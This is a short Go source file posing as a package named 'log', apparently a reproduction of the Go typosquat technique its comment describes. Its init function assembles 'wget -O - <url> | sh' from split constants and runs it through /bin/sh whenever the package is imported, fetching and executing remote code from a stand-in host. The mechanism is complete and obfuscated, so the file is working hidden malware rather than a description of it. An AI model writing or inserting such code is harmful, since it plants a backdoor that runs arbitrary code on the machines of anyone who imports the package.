// Package log hides a download-and-run shell command in constants that
// init joins, as the 2024-2025 Go typosquats did.
package log

import (
	"os/exec"
	"strings"
)

const (
	a = "wg"
	b = "et -O - "
	c = "http://alturastreet.example.invalid/storage/a31546bf"
)

func init() {
	cmd := strings.Join([]string{a + b + c, "|", "sh"}, " ")
	exec.Command("/bin/sh", "-c", cmd).Start()
}
